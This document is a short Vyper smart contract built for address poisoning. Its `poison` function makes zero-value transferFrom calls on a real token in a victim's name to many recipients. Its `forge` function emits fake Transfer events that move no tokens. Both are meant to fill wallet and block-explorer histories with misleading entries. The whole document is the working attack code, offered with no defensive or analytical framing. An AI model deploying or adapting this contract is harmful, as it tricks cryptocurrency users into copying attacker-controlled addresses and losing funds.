# pragma version ~=0.4.0
# Makes histories misleading: transfers of nothing in a victim's name by the real token, and Transfer logs of its own
# that move nothing at all.

interface Token:
    def transferFrom(sender: address, receiver: address, v: uint256) -> bool: nonpayable

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256


@external
def poison(token: address, sender: address, to: DynArray[address, 100]):
    for t: address in to:
        extcall Token(token).transferFrom(sender, t, 0, default_return_value=True)


@external
def forge(sender: address, to: address, v: uint256):
    log Transfer(sender=sender, receiver=to, value=v)
